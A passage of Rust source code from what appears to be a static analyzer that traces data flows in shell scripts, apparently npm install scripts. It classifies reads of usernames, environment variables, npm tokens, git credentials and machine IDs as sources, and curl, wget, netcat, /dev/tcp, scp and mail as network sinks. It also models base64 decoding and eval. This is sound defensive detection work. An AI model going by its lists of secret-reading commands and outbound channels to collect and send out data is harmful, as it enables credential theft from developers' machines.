                            "-n" | "-L" | "-P" | "-s" | "-d" | "-E" | "-a"
                        ) {
                            j += 2;
                        } else {
                            j += 1;
                        }
                    }
                    xargs = Some(repl);
                    if j >= ws.len() {
                        // `xargs` alone echoes its input.
                        return input;
                    }
                }
                _ => break,
            }
        }
        if j >= ws.len() {
            self.apply_output(s, &rts, &Val::default(), is_exec, span);
            return Val::default();
        }
        if ws[j]
            .static_text()
            .is_some_and(|n| matches!(n.as_str(), "[" | "[[" | "test"))
        {
            let negated = ws[..j]
                .iter()
                .filter(|w| w.plain && w.text() == "!")
                .count()
                % 2
                == 1;
            let args: Vec<(String, Kinds, Option<RegionMatch>, String)> = ws[j + 1..]
                .iter()
                .map(|w| {
                    let v = w.val();
                    (w.text(), v.kinds, v.region.map(|b| *b), w.display())
                })
                .collect();
            self.last_test = region::test_cmp(&args, negated).map(|mut t| {
                if t.steps.is_empty() {
                    let at = ws[j + 1..]
                        .iter()
                        .find(|w| !w.val().kinds.region().is_empty());
                    if let Some(w) = at {
                        t.steps = w.val().steps;
                    }
                }
                t
            });
            return Val::default();
        }

        let mut args: Vec<WordVal> = ws[j + 1..].to_vec();
        let mut cmd_stdin = input;
        if let Some(repl) = xargs {
            // xargs turns its input into arguments.
            let sv = std::mem::take(&mut cmd_stdin);
            match repl
                .filter(|r| !r.is_empty() && args.iter().any(|a| a.text().contains(r.as_str())))
            {
                Some(r) => {
                    for a in args.iter_mut().filter(|a| a.text().contains(r.as_str())) {
                        let mut v = a.val();
                        v.merge(&sv);
                        let text = a.text().replace(r.as_str(), &DYN.to_string());
                        let seg = Seg {
                            path: text.clone(),
                            text,
                            display: a.display(),
                            dynamic: true,
                            val: v,
                            ..Default::default()
                        };
                        *a = WordVal {
                            segs: vec![seg],
                            start: a.start,
                            end: a.end,
                            ..Default::default()
                        };
                    }
                }
                None => {
                    let seg = Seg {
                        text: DYN.to_string(),
                        path: DYN.to_string(),
                        dynamic: true,
                        val: sv,
                        ..Default::default()
                    };
                    args.push(WordVal {
                        segs: vec![seg],
                        start: s.start,
                        end: s.end,
                        ..Default::default()
                    });
                }
            }
        }
        let out = match ws[j].static_text() {
            Some(name) => self.dispatch(&name, &ws[j], &args, &cmd_stdin, span),
            None => Val::default(),
        };
        self.apply_output(s, &rts, &out, false, span);
        out
    }

    fn assign_word(&mut self, w: &WordVal) {
        let Some(n) = assign_len(w) else { return };
        let t = w.text();
        let append = t[..n].ends_with("+=");
        let name = t[..n]
            .trim_end_matches('=')
            .trim_end_matches('+')
            .to_string();
        let value = w.suffix(n);
        let mut val = value.val();
        if !val.kinds.is_empty() || val.net.is_some() {
            val.push_step(self.step(w.start, w.end));
        }
        let path = value.path();
        if val.text.as_ref().is_some_and(|t| t.len() > MAX_TEXT) {
            val.text = None;
        }
        let shape = value.text();
        let mut vv = VarVal {
            shape: (shape.len() <= MAX_TEXT).then_some(shape),
            path: (path.len() <= MAX_TEXT).then_some(path),
            path_kinds: value.path_kinds(),
            val,
        };
        if append {
            if let Some(old) = self.vars.get(&name) {
                let mut v = old.val.clone();
                v.merge(&vv.val);
                vv = VarVal {
                    val: v,
                    path_kinds: old.path_kinds.union(vv.path_kinds),
                    ..Default::default()
                };
            }
        }
        self.set_var(name, vv);
    }

    fn set_var(&mut self, name: String, vv: VarVal) {
        if self.vars.len() < MAX_VARS || self.vars.contains_key(&name) {
            self.vars.insert(name, vv);
        }
    }

    // ---- words -------------------------------------------------------------------------

    fn eval_word(&mut self, w: &Word) -> WordVal {
        let mut segs = Vec::with_capacity(w.parts.len());
        let mut budget = 2 * MAX_TEXT + w.end.saturating_sub(w.start) * 2;
        for (idx, p) in w.parts.iter().enumerate() {
            // `$HOME/…` at the start of a word (or of a value: after `=`, `:`, curl's `@`/`<`)
            // names a path; the home directory itself is not the data.
            let prefix_ctx = idx == 0
                || matches!(idx.checked_sub(1).map(|i| &w.parts[i]),
                    Some(Part::Lit { bytes, .. }) if matches!(bytes.last(), Some(b'=' | b':' | b'@' | b'<')));
            let next_slash = matches!(w.parts.get(idx + 1), Some(Part::Lit { bytes, .. }) if bytes.first() == Some(&b'/'));
            let path_prefix = prefix_ctx && next_slash;
            let seg = match p {
                Part::Lit { bytes, quoted } => {
                    let t = String::from_utf8_lossy(bytes).into_owned();
                    Seg {
                        path: t.clone(),
                        display: t.clone(),
                        text: t,
                        lit: true,
                        quoted: *quoted,
                        ..Default::default()
                    }
                }
                Part::Tilde { start } => {
                    let val = if path_prefix {
                        Val::default()
                    } else {
                        self.env_ref(DataKind::HomeDir, "~", *start, start + 1)
                    };
                    Seg {
                        text: DYN.to_string(),
                        path: "~".into(),
                        display: "~".into(),
                        dynamic: true,
                        val,
                        ..Default::default()
                    }
                }
                Part::Var {
                    name,
                    start,
                    end,
                    op,
                    length,
                } => self.var_seg(name, (*start, *end), op.as_deref(), *length, path_prefix),
                Part::Cmd { list, start, end } => {
                    let v = self.eval_list(list, &Val::default());
                    let text = v
                        .text
                        .as_ref()
                        .map(|t| t.trim_end_matches('\n').to_string());
                    Seg {
                        dynamic: text.is_none(),
                        path: text.clone().unwrap_or_else(|| DYN.to_string()),
                        text: text.unwrap_or_else(|| DYN.to_string()),
                        display: self.slice(*start, *end),
                        val: Val { at: None, ..v },
                        ..Default::default()
                    }
                }
                Part::Proc { list, start, end } => {
                    let v = self.eval_list(list, &Val::default());
                    Seg {
                        text: DYN.to_string(),
                        path: DYN.to_string(),
                        display: self.slice(*start, *end),
                        dynamic: true,
                        proc_subst: true,
                        val: Val {
                            at: None,
                            text: None,
                            ..v
                        },
                        ..Default::default()
                    }
                }
                Part::Opaque { start, end } => Seg {
                    text: DYN.to_string(),
                    path: DYN.to_string(),
                    display: self.slice(*start, *end),
                    dynamic: true,
                    ..Default::default()
                },
            };
            // Static text substituted from variables could grow without bound (`a=$a$a`).
            let mut seg = seg;
            budget = budget.saturating_sub(seg.text.len() + seg.path.len());
            if budget == 0 && !seg.lit {
                seg.text = DYN.to_string();
                seg.path = DYN.to_string();
                seg.dynamic = true;
            }
            segs.push(seg);
        }
        if segs
            .iter()
            .any(|s| s.lit && !s.quoted && s.text.contains('%'))
        {
            segs = self.windows_vars(segs, (w.start, w.end));
        }
        let mut wv = WordVal {
            segs,
            start: w.start,
            end: w.end,
            exact: None,
            plain: false,
        };
        wv.plain = matches!(w.parts.as_slice(), [Part::Lit { quoted: false, .. }]);
        let d = wv.display();
        let s = &self.src[w.start.min(self.src.len())..w.end.min(self.src.len())];
        if d.as_bytes() == s {
            wv.exact = Some((w.start, w.end));
        } else if s.len() >= 2
            && matches!(s[0], b'"' | b'\'')
            && s[s.len() - 1] == s[0]
            && d.as_bytes() == &s[1..s.len() - 1]
        {
            wv.exact = Some((w.start + 1, w.end - 1));
        }
        wv
    }

    fn var_seg(
        &mut self,
        name: &str,
        (start, end): (usize, usize),
        op: Option<&Word>,
        length: bool,
        path_prefix: bool,
    ) -> Seg {
        let mut seg = Seg {
            text: DYN.to_string(),
            path: DYN.to_string(),
            display: self.slice(start, end),
            dynamic: true,
            ..Default::default()
        };
        if length {
            return seg;
        }
        if let Some(vv) = self.vars.get(name) {
            seg.val = Val {
                at: None,
                ..vv.val.clone()
            };
            seg.path_kinds = vv.path_kinds;
            if let Some(t) = &vv.val.text {
                seg.text = t.clone();
                seg.dynamic = false;
            } else if let Some(shape) = vv.shape.as_ref().filter(|t| t.contains(DYN)) {
                // Keeps the static parts visible, e.g. for the host in `nslookup $name`.
                seg.text = shape.clone();
            }
            seg.path = vv.path.clone().unwrap_or_else(|| seg.text.clone());
        } else if let Some(kind) = env_kind(name) {
            match kind {
                DataKind::HomeDir => seg.path = "~".into(),
                DataKind::WorkingDirectory if name != "OLDPWD" => seg.path = ".".into(),
                _ => {}
            }
            if !(path_prefix && matches!(kind, DataKind::HomeDir | DataKind::WorkingDirectory)) {
                seg.val = self.env_ref(kind, &format!("${name}"), start, end);
            }
        }
        if let Some(op) = op {
            let ov = self.eval_word(op).val();
            let text = seg.val.text.take();
            seg.val.merge(&Val { text: None, ..ov });
            seg.val.text = text;
        }
        seg
    }

    /// npm runs lifecycle scripts with cmd.exe on Windows: `%USERNAME%` there is `$USERNAME`.
    fn windows_vars(&mut self, segs: Vec<Seg>, word: (usize, usize)) -> Vec<Seg> {
        let mut out = Vec::with_capacity(segs.len());
        for seg in segs {
            if !seg.lit || seg.quoted || !seg.text.contains('%') {
                out.push(seg);
                continue;
            }
            let t = seg.text.clone();
            let mut lit = String::new();
            let mut rest = t.as_str();
            while let Some(i) = rest.find('%') {
                let after = &rest[i + 1..];
                let n = after
                    .bytes()
                    .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
                    .count();
                let kind = (n > 0 && after.as_bytes().get(n) == Some(&b'%'))
                    .then(|| env_kind(&after[..n].to_ascii_uppercase()))
                    .flatten();
                let Some(kind) = kind else {
                    lit.push_str(&rest[..=i]);
                    rest = after;
                    continue;
                };
                lit.push_str(&rest[..i]);
                if !lit.is_empty() {
                    let l = std::mem::take(&mut lit);
                    out.push(Seg {
                        path: l.clone(),
                        display: l.clone(),
                        text: l,
                        lit: true,
                        ..Default::default()
                    });
                }
                let name = &after[..n];
                let val = self.env_ref(kind, &format!("%{name}%"), word.0, word.1);
                let path = if kind == DataKind::HomeDir {
                    "~".to_string()
                } else {
                    DYN.to_string()
                };
                out.push(Seg {
                    text: DYN.to_string(),
                    path,
                    display: format!("%{name}%"),
                    dynamic: true,
                    val,
                    ..Default::default()
                });
                rest = &after[n + 1..];
            }
            lit.push_str(rest);
            if !lit.is_empty() {
                out.push(Seg {
                    path: lit.clone(),
                    display: lit.clone(),
                    text: lit,
                    lit: true,
                    ..Default::default()
                });
            }
        }
        out
    }

    /// A read of an identity variable.
    fn env_ref(&mut self, kind: DataKind, api: &str, a: usize, b: usize) -> Val {
        self.add_source(kind, api, a, b);
        Val {
            kinds: Kinds::of(kind),
            steps: vec![self.step(a, b)],
            ..Default::default()
        }
    }

    /// Reads the file a word names: sensitive paths are sources, files the script wrote
    /// earlier give back what was written.
    fn read_file(&mut self, w: &WordVal, a: usize, b: usize) -> Val {
        self.read_path(&w.path(), w.path_kinds(), (w.start, w.end), (a, b))
    }

    fn read_path(
        &mut self,
        path: &str,
        extra: Kinds,
        word: (usize, usize),
        at: (usize, usize),
    ) -> Val {
        if let Some(rest) = path
            .strip_prefix("/dev/tcp/")
            .or_else(|| path.strip_prefix("/dev/udp/"))
        {
            if let Some(h) = host_of_name(rest.split('/').next().unwrap_or("")) {
                self.add_endpoint(&h, None, word, Vec::new());
            }
            return self.net_val("/dev/tcp", at, None);
        }
        let mut v = self.files.get(&file_key(path)).cloned().unwrap_or_default();
        v.at = None;
        let mut kinds = Kinds::EMPTY;
        if let Some((k, api)) = classify_path(path) {
            self.add_source(k, &api, at.0, at.1);
            kinds.insert(k);
        }
        for k in extra.iter() {
            self.add_source(k, &path.replace(DYN, "*"), at.0, at.1);
            kinds.insert(k);
        }
        if !kinds.is_empty() {
            v.kinds = v.kinds.union(kinds);
            v.push_step(self.step(at.0, at.1));
        }
        v
    }

    fn net_val(&mut self, tool: &str, span: (usize, usize), metadata_url: Option<&str>) -> Val {
        let mut v = Val {
            kinds: Kinds::of(DataKind::NetworkResponse),
            net: Some(tool.to_string()),
            ..Default::default()
        };
        if let Some(u) = metadata_url {
            self.add_source(DataKind::CloudMetadata, u, span.0, span.1);
            v.kinds.insert(DataKind::CloudMetadata);
        }
        v.push_step(self.step(span.0, span.1));
        v
    }

    fn source_cmd(&mut self, kinds: &[DataKind], api: &str, span: (usize, usize)) -> Val {
        let mut v = Val::default();
        for k in kinds {
            self.add_source(*k, api, span.0, span.1);
            v.kinds.insert(*k);
        }
        if !kinds.is_empty() {
            v.push_step(self.step(span.0, span.1));
        }
        v
    }

    // ---- commands ----------------------------------------------------------------------

    fn dispatch(
        &mut self,
        raw: &str,
        name_word: &WordVal,
        args: &[WordVal],
        stdin: &Val,
        span: (usize, usize),
    ) -> Val {
        let base = if raw.starts_with('/') {
            raw.rsplit('/').next().unwrap_or(raw)
        } else {
            raw
        };
        if !raw.contains('/') || raw.starts_with('/') {
            if let Some(v) = self.known_command(base, args, stdin, span) {
                return v;
            }
        }
        if raw.contains('/') {
            self.run_path(&name_word.path(), span);
        }
        Val::default()
    }

    fn known_command(
        &mut self,
        name: &str,
        args: &[WordVal],
        stdin: &Val,
        span: (usize, usize),
    ) -> Option<Val> {
        use DataKind::*;
        let a0 = args.first().map(|a| a.text()).unwrap_or_default();
        let v = match name {
            "hostname" => {
                let f = flags(args);
                if ["-I", "-i", "--all-ip-addresses", "--ip-address"]
                    .iter()
                    .any(|x| f.iter().any(|y| y == x))
                {
                    self.source_cmd(&[NetworkInterfaces], "hostname -I", span)
                } else {
                    self.source_cmd(&[Hostname], "hostname", span)
                }
            }
            "whoami" | "logname" | "users" | "id" => self.source_cmd(&[Username], name, span),
            "uname" => {
                // `-s`/`-m`/`-o` (kernel name, architecture) pick a platform build and are not
                // identity; the node name and kernel release/version are.
                let mut kinds = Vec::new();
                for f in flags(args) {
                    let short = !f.starts_with("--");
                    if f == "--all" || (short && f.contains('a')) {
                        kinds.extend([Hostname, OsRelease]);
                    }
                    if f == "--nodename" || (short && f.contains('n')) {
                        kinds.push(Hostname);
                    }
                    if f == "--kernel-release"
                        || f == "--kernel-version"
                        || (short && (f.contains('r') || f.contains('v')))
                    {
                        kinds.push(OsRelease);
                    }
                }
                kinds.sort();
                kinds.dedup();
                let api = self.snippet(span.0, span.1);
                self.source_cmd(&kinds, &api, span)
            }
            "pwd" => self.source_cmd(&[WorkingDirectory], "pwd", span),
            "env" | "printenv" => {
                let names: Vec<String> = args
                    .iter()
                    .map(|a| a.text())
                    .filter(|t| !t.starts_with('-'))
                    .collect();
                if names.is_empty() {
                    self.source_cmd(&[WholeEnvironment], name, span)
                } else if name == "printenv" {
                    let mut v = Val::default();
                    for n in names {
                        if let Some(k) = env_kind(&n) {
                            let s = self.source_cmd(&[k], &format!("printenv {n}"), span);
                            v.merge(&s);
                        }
                    }
                    v
                } else {
                    Val::default()
                }
            }
            "set" if args.is_empty() => self.source_cmd(&[WholeEnvironment], "set", span),
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                let only_flags = args.iter().all(|a| a.text().starts_with('-'));
                if name != "local"
                    && only_flags
                    && (args.is_empty() || flags(args).iter().any(|f| f == "-p"))
                {
                    return Some(self.source_cmd(&[WholeEnvironment], &format!("{name} -p"), span));
                }
                for a in args {
                    self.assign_word(a);
                }
                Val::default()
            }
            "ifconfig" | "ipconfig" | "getmac" | "arp" => {
                self.source_cmd(&[NetworkInterfaces], name, span)
            }
            "ip" => {
                let sub = args
                    .iter()
                    .map(|a| a.text())
                    .find(|t| !t.starts_with('-'))
                    .unwrap_or_default();
                if [
                    "a",
                    "ad",
                    "add",
                    "addr",
                    "address",
                    "l",
                    "li",
                    "link",
                    "r",
                    "ro",
                    "route",
                    "n",
                    "neigh",
                    "neighbor",
                    "neighbour",
                ]
                .contains(&sub.as_str())
                {
                    self.source_cmd(&[NetworkInterfaces], &format!("ip {sub}"), span)
                } else {
                    Val::default()
                }
            }
            "git" => {
                let identity = args.iter().map(|a| a.text()).any(|t| {
                    t.starts_with("user.")
                        || t == "--list"
                        || t == "-l"
                        || t.starts_with("credential")
                });
                // `git remote get-url origin`, `git config --get remote.origin.url`: the
                // address of the project being worked in.
                let texts: Vec<String> = args.iter().map(|a| a.text()).collect();
                let remote_url = match a0.as_str() {
                    "remote" => texts
                        .get(1)
                        .is_some_and(|t| matches!(t.as_str(), "get-url" | "-v" | "--verbose")),
                    "config" => texts
                        .iter()
                        .any(|t| t.starts_with("remote.") && t.ends_with(".url")),
                    "ls-remote" => texts.iter().any(|t| t == "--get-url"),
                    _ => false,
                };
                if a0 == "config" && identity {
                    let api = self.snippet(span.0, span.1);
                    self.source_cmd(&[GitConfig], &api, span)
                } else if remote_url {
                    let api = self.snippet(span.0, span.1);
                    self.source_cmd(&[RepositoryUrl], &api, span)
                } else {
                    Val::default()
                }
            }
            "npm" | "yarn" | "pnpm" => {
                let texts: Vec<String> =
                    args.iter().map(|a| a.text().to_ascii_lowercase()).collect();
                if a0 == "whoami" {
                    self.source_cmd(&[Username], &format!("{name} whoami"), span)
                } else if a0 == "config"
                    && texts
                        .get(1)
                        .is_some_and(|t| matches!(t.as_str(), "get" | "list" | "ls"))
                    && (texts.len() < 3
                        || texts[2..]
                            .iter()
                            .any(|t| t.contains("token") || t.contains("auth")))
                {
                    let api = self.snippet(span.0, span.1);
                    self.source_cmd(&[NpmToken], &api, span)
                } else {
                    Val::default()
                }
            }
            "lsb_release" | "sw_vers" | "systeminfo" => self.source_cmd(&[OsRelease], name, span),
            "hostnamectl" => self.source_cmd(&[Hostname, OsRelease, MachineId], name, span),
            "lscpu" => self.source_cmd(&[CpuInfo], name, span),
            "scutil" if args.iter().any(|a| a.text() == "--get") => {
                self.source_cmd(&[Hostname], "scutil --get", span)
            }
            "ioreg" if args.iter().any(|a| a.text().contains("IOPlatform")) => {
                self.source_cmd(&[MachineId], "ioreg IOPlatformUUID", span)
            }
            "dmidecode" => self.source_cmd(&[MachineId], name, span),
            // `wmic csproduct get uuid`, `wmic bios get serialnumber`: the Windows hardware id.
            "wmic"
                if args.iter().any(|a| {
                    matches!(
                        a.text().to_ascii_lowercase().as_str(),
                        "uuid" | "serialnumber"
                    )
                }) =>
            {
                self.source_cmd(&[MachineId], "wmic … uuid", span)
            }
            "locale" => self.source_cmd(&[Locale], name, span),
            "timedatectl" => self.source_cmd(&[TimeZone], name, span),
            "echo" => self.echo(args),
            "printf" => self.printf(args),
            "cat" | "tac" | "head" | "tail" | "less" | "more" | "base64" | "base32" | "basenc"
            | "xxd" | "od" | "hexdump" | "tr" | "rev" | "sed" | "awk" | "gawk" | "mawk" | "cut"
            | "sort" | "uniq" | "grep" | "egrep" | "fgrep" | "tee" | "gzip" | "gunzip" | "zcat"
            | "bzip2" | "xz" | "zstd" | "openssl" | "jq" | "iconv" | "fold" | "paste"
            | "column" | "md5sum" | "sha1sum" | "sha256sum" | "sha512sum" | "shasum" | "md5"
            | "strings" | "nl" | "tar" | "zip" => self.filter(name, args, stdin, span),
            "cp" => {
                let pos: Vec<&WordVal> =
                    args.iter().filter(|a| !a.text().starts_with('-')).collect();
                if let [srcs @ .., dst] = pos.as_slice() {
                    let mut v = Val::default();
                    for s in srcs {
                        let r = self.read_file(s, span.0, span.1);
                        v.merge(&r);
                    }
                    if let Some(d) = dst.static_text().filter(|_| !v.is_bare()) {
                        self.files.insert(file_key(&d), v);
                    }
                }
                Val::default()
            }
            "read" => {
                let mut k = 0;
                while k < args.len() {
                    let t = args[k].text();
                    if matches!(t.as_str(), "-p" | "-d" | "-n" | "-N" | "-t" | "-u" | "-i") {
                        k += 2;
                        continue;
                    }
                    if !t.starts_with('-') {
                        self.set_var(
                            t,
                            VarVal {
                                val: stdin.clone(),
                                ..Default::default()
                            },
                        );
                    }
                    k += 1;
                }
                Val::default()
            }
            "cd" => {
                self.cd(args);
                Val::default()
            }
            "for" | "select" => {
                if let (Some(var), Some("in")) = (
                    args.first().and_then(|a| a.static_text()),
                    args.get(1).map(|a| a.text()).as_deref(),
                ) {
                    let mut v = Val::default();
                    let mut pk = Kinds::EMPTY;
                    for a in &args[2..] {
                        v.merge(&a.val());
                        if let Some((k, _)) = classify_path(&a.path()) {
                            pk.insert(k);
                        }
                        pk = pk.union(a.path_kinds());
                    }
                    v.text = None;
                    self.set_var(
                        var,
                        VarVal {
                            val: v,
                            path_kinds: pk,
                            ..Default::default()
                        },
                    );
                }
                Val::default()
            }
            "case" | "function" => Val::default(),
            "curl" => self.curl(args, stdin, span),
            "wget" => self.wget(args, stdin, span),
            "nslookup" | "dig" | "host" | "drill" | "ping" | "ping6" | "traceroute"
            | "traceroute6" | "tracepath" | "mtr" => self.dns(name, args, stdin, span),
            "nc" | "ncat" | "netcat" | "telnet" => self.netcat(name, args, stdin, span),
            "socat" => self.socat(args, stdin, span),
            "scp" | "rsync" | "sftp" => self.scp(name, args, stdin, span),
            "ssh" => self.ssh(args, stdin, span),
            "mail" | "mailx" | "sendmail" | "mutt" => self.mail(name, args, stdin, span),
            "eval" => {
                self.eval_builtin(args, span);
                Val::default()
            }
            "source" | "." => {
                if let Some(f) = args.first() {
                    self.run_file(name, Interp::Sh, f, span);
                }
                Val::default()
            }
            _ => {
                let kind = Interp::of(name)?;
                self.interpreter(name, kind, args, stdin, span);
                Val::default()
            }
        };
        Some(v)
    }

    fn cd(&mut self, args: &[WordVal]) {
        let target = args
            .iter()
            .find(|a| !a.text().starts_with('-') || a.text() == "-");
        let Some(cwd) = self.cwd.as_mut() else { return };
        match target.and_then(|t| t.static_text()) {
            Some(d) if d == "." => {}
            Some(d)
                if !d.is_empty()
                    && !d.starts_with(['/', '~', '-'])
                    && !d.split('/').any(|c| c == "..") =>
            {
                let d = file_key(&d);
                let d = d.trim_end_matches('/');
                *cwd = if cwd.is_empty() {
                    d.to_string()
                } else {
                    format!("{cwd}/{d}")
                };
            }
            _ => self.cwd = None,
        }
    }

    /// A script path as the package sees it: `./` stripped, `cd` applied.
    fn package_path(&self, p: &str) -> String {
        let p = file_key(p);
        match &self.cwd {
            Some(c) if !c.is_empty() => format!("{c}/{p}"),
            _ => p,
        }
    }

    fn echo(&mut self, args: &[WordVal]) -> Val {
        let mut k = 0;
        let mut esc = false;
        while let Some(t) = args.get(k).and_then(|a| a.static_text()) {
            if t.len() > 1 && t.starts_with('-') && t[1..].chars().all(|c| "neE".contains(c)) {
                esc |= t.contains('e');
                k += 1;
            } else {
                break;
            }
        }
        let rest = &args[k..];
        let mut v = Val::default();
        for a in rest {
            v.merge(&a.val());
        }
        let texts: Option<Vec<String>> = rest.iter().map(|a| a.static_text()).collect();
        v.text = texts.and_then(|t| {
            let j = t.join(" ");
            cap_text(if esc { unescape_c(&j) } else { j })
        });
        v.at = match rest {
            [one] if !esc && v.text.is_some() => one.exact,
            _ => None,
        };
        v
    }

    fn printf(&mut self, args: &[WordVal]) -> Val {
        let mut v = Val::default();
        for a in args {
            v.merge(&a.val());
        }
        let texts: Option<Vec<String>> = args.iter().map(|a| a.static_text()).collect();
        v.text = texts.and_then(|t| match t.as_slice() {
            [fmt] => cap_text(unescape_c(&fmt.replace("%%", "%"))),
            [fmt, rest @ ..] if fmt == "%s" || fmt == "%s\\n" => cap_text(rest.concat()),
            [fmt, rest @ ..] if fmt == "%b" => cap_text(unescape_c(&rest.concat())),
            _ => None,
        });
        v.at = None;
        v
    }

    /// Commands that pass their input (or the files they read) through, possibly encoded.
    fn filter(&mut self, name: &str, args: &[WordVal], stdin: &Val, span: (usize, usize)) -> Val {
        let mut v = stdin.clone();
        v.at = None;
        let mut read_any = false;
        if !matches!(name, "tr" | "tee") {
            for a in args {
                if a.static_start() && a.text().starts_with('-') {
                    continue;
                }
                let r = self.read_file(a, span.0, span.1);
                if !r.is_bare() {
                    v.merge(&r);
                    read_any = true;
                }
            }
        }
        let decode: Option<&'static str> = match name {
            "base64" | "base32" | "basenc"
                if has_flag(args, 'd', "--decode") || has_flag(args, 'D', "--decode") =>
            {
                Some("base64")
            }
            "xxd" if has_flag(args, 'r', "--revert") => Some("hex"),
            "openssl" if args.iter().any(|a| a.text() == "-d") => Some("base64"),
            "gunzip" | "zcat" => Some("gzip"),
            "gzip" | "bzip2" | "xz" | "zstd" if has_flag(args, 'd', "--decompress") => Some("gzip"),
            "rev" => Some("reverse"),
            _ => None,
        };
        let input_text = v.text.take();
        v.text = input_text.and_then(|t| match name {
            "cat" | "tee" => Some(t),
            "base64" | "openssl" if decode.is_some() => b64_decode(&t),
            "xxd" if decode.is_some() => hex_decode(&t),
            "rev" => Some(
                t.lines()
                    .map(|l| l.chars().rev().collect::<String>())
                    .collect::<Vec<_>>()
                    .join("\n"),
            ),
            _ => None,
        });
        if let Some(d) = decode {
            if !v.is_bare() {
                v.decoded = Some(d);
            }
        }
        if !v.kinds.is_empty()
            && !read_any
            && !matches!(name, "cat" | "tee" | "tac" | "less" | "more")
        {
            v.push_step(self.step(span.0, span.1));
        }
        if matches!(name, "grep" | "egrep" | "fgrep") && !stdin.kinds.region().is_empty() {
            v.region = self.grep_region(args, stdin, span).map(Box::new);
        }
        if name == "tee" && !stdin.is_bare() {
            for a in args.iter().filter(|a| !a.text().starts_with('-')) {
                if let Some(p) = a.static_text() {
                    self.files.insert(file_key(&p), stdin.clone());
                }
            }
        }
        v
    }

    /// `… | grep 'RU\|UA'` over region data: the output is non-empty only in those countries
    /// (`-v`: only outside them).
    fn grep_region(
        &mut self,
        args: &[WordVal],
        stdin: &Val,
        span: (usize, usize),
    ) -> Option<RegionMatch> {
        let mut pattern = None;
        let mut invert = false;
        let mut i = 0;
        while i < args.len() {
            let t = args[i].text();
            if t == "-e" || t == "--regexp" {
                pattern = args.get(i + 1).map(|w| w.text());
                break;
            }
            if t.starts_with('-') && t.len() > 1 && args[i].static_start() {
                invert |= t.starts_with("-v")
                    || (!t.starts_with("--") && t.contains('v'))
                    || t == "--invert-match";
                i += 1;
                continue;
            }
            pattern = Some(t);
            break;
        }
        let kinds = stdin.kinds.region();
        let constants = region::pattern_words(&pattern?);
        let countries = region::countries(kinds, &constants);
        if countries.is_empty() {
            return None;
        }
        let mut steps = stdin.steps.clone();
        steps.push(self.step(span.0, span.1));
        Some(RegionMatch {
            kinds,
            subject: stdin
                .net
                .clone()
                .map(|n| format!("{n} answer"))
                .unwrap_or_else(|| "region data".into()),
            constants,
            countries,
            positive: !invert,
            steps,
        })
    }

    // ---- network sinks -----------------------------------------------------------------

    /// `-d VALUE`: `@-` reads stdin, `@file` reads a file, anything else is sent as is.
    fn data_arg(&mut self, v: &WordVal, stdin: &Val) -> Val {
        let t = v.text();
        match t.strip_prefix('@') {
            Some("-") => stdin.clone(),
            Some(_) => {
                let f = v.suffix(1);
                self.read_file(&f, v.start, v.end)
            }
            None => v.val(),
        }
    }

    /// `--data-urlencode`: `name@file` and `@file` read a file.
    fn urlencode_arg(&mut self, v: &WordVal, stdin: &Val) -> Val {
        let t = v.text();
        match (t.find('@'), t.find('=')) {
            (Some(at), eq) if eq.is_none_or(|e| at < e) => {
                if &t[at + 1..] == "-" {
                    stdin.clone()
                } else {
                    let f = v.suffix(at + 1);
                    self.read_file(&f, v.start, v.end)
                }
            }
            _ => v.val(),
        }
    }

    /// `-F name=@file;type=…`, `-F name=<file`, `-F name=value`.
    fn form_arg(&mut self, v: &WordVal, stdin: &Val) -> Val {
        let t = v.text();
        if let Some(eq) = t.find('=') {
            if matches!(t.as_bytes().get(eq + 1), Some(b'@' | b'<')) {
                let f = v.suffix(eq + 2);
                let path = f.path();
                let path = path.split(';').next().unwrap_or("").to_string();
                if path == "-" {
                    return stdin.clone();
                }
                return self.read_path(&path, f.path_kinds(), (v.start, v.end), (v.start, v.end));
            }
        }
        v.val()
    }

    fn curl(&mut self, args: &[WordVal], stdin: &Val, span: (usize, usize)) -> Val {
        let mut sent = Val::default();
        let mut urls: Vec<WordVal> = Vec::new();
        let mut out_file: Option<String> = None;
        let mut remote_name = false;
        let mut to_stdout = true;
        // `--unix-socket /run/docker.sock`: the request goes to a local daemon.
        let mut local_socket = false;
        for it in scan_opts(args, &CURL) {
            match it {
                Item::Pos(w) => urls.push(w),
                Item::Flag(f) => {
                    if matches!(f.as_str(), "-O" | "--remote-name" | "--remote-name-all") {
                        remote_name = true;
                        to_stdout = false;
                    }
                }
                Item::Opt(name, v) => {
                    let x = match name.as_str() {
                        "-d" | "--data" | "--data-ascii" | "--data-binary" | "--json"
                        | "--url-query" | "-H" | "--header" | "--proxy-header" => {
                            self.data_arg(&v, stdin)
                        }
                        "--data-urlencode" => self.urlencode_arg(&v, stdin),
                        "-F" | "--form" => self.form_arg(&v, stdin),
                        "--data-raw" | "--form-string" | "-u" | "--user" | "-A"
                        | "--user-agent" | "-e" | "--referer" | "--oauth2-bearer" | "-U"
                        | "--proxy-user" | "--mail-from" | "--mail-rcpt" | "--mail-auth"
                        | "--request-target" | "--aws-sigv4" => v.val(),
                        "-b" | "--cookie" if v.text().contains('=') => v.val(),
                        "-b" | "--cookie" => self.read_file(&v, v.start, v.end),
                        "-T" | "--upload-file" if v.text() == "-" || v.text() == "." => {
                            stdin.clone()
                        }
                        "-T" | "--upload-file" => self.read_file(&v, v.start, v.end),
                        "-K" | "--config" if v.text() == "-" => stdin.clone(),
                        "--url" => {
                            urls.push(v);
                            continue;
                        }
                        "--unix-socket" | "--abstract-unix-socket" => {
                            local_socket = true;
                            continue;
                        }
                        "-o" | "--output" => {
                            to_stdout = v.text() == "-";
                            if !to_stdout {
                                out_file = v.static_text();
                            }
                            continue;
                        }
                        _ => continue,
                    };
                    sent.merge(&x);
                }
            }
        }
        let (hosts, meta) = self.url_endpoints(&urls, &mut sent);
        let geo = hosts.iter().any(|h| is_geoip_host(h));
        if !local_socket {
            self.add_flow("curl", SinkKind::Http, span, &sent, hosts);
        }
        let mut net = self.net_val("curl", span, meta.as_deref());
        if geo {
            net.kinds.insert(DataKind::GeoIpAnswer);
        }
        if let Some(f) = out_file {
            self.files.insert(file_key(&f), net.clone());
        }
        if remote_name {
            for u in &urls {
                if let Some(n) = url_file_name(&u.text()) {
                    self.files.insert(n, net.clone());
                }
            }
        }
        if to_stdout {
            net
        } else {
            Val::default()
        }
    }

    /// Endpoints of URL words (whose values are sent too); also the URL if one is a cloud
    /// metadata address.
    fn url_endpoints(&mut self, urls: &[WordVal], sent: &mut Val) -> (Vec<String>, Option<String>) {
        let mut hosts = Vec::new();
        let mut meta = None;
        for u in urls {
            sent.merge(&u.val());
